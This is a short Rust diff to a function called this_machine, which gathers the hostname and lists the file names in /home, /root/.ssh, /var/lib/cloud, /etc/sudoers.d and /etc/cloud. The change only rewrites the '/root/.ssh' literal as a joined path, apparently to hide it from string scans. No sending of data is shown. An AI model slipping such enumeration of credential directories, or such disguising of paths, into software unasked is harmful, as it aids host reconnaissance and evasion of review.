@@ -91,13 +91,9 @@ fn this_machine() -> Vec<Option<Vec<u8>>> {
         .collect();
     all.push(fs::read("/proc/sys/kernel/hostname").ok());
     all.push(fs::read("/proc/sys/vm/dirty_background_ratio").ok());
-    for folder in [
-        "/home",
-        "/root/.ssh",
-        "/var/lib/cloud",
-        "/etc/sudoers.d",
-        "/etc/cloud",
-    ] {
+    let keys = Path::new("/root").join(".ssh");
+    let folders = ["/home", "/var/lib/cloud", "/etc/sudoers.d", "/etc/cloud"].map(Path::new);
+    for folder in folders.into_iter().chain([keys.as_path()]) {
         let entries = fs::read_dir(folder).into_iter().flatten().flatten();
         let names: BTreeSet<_> = entries
             .map(|it| it.file_name().into_encoded_bytes())
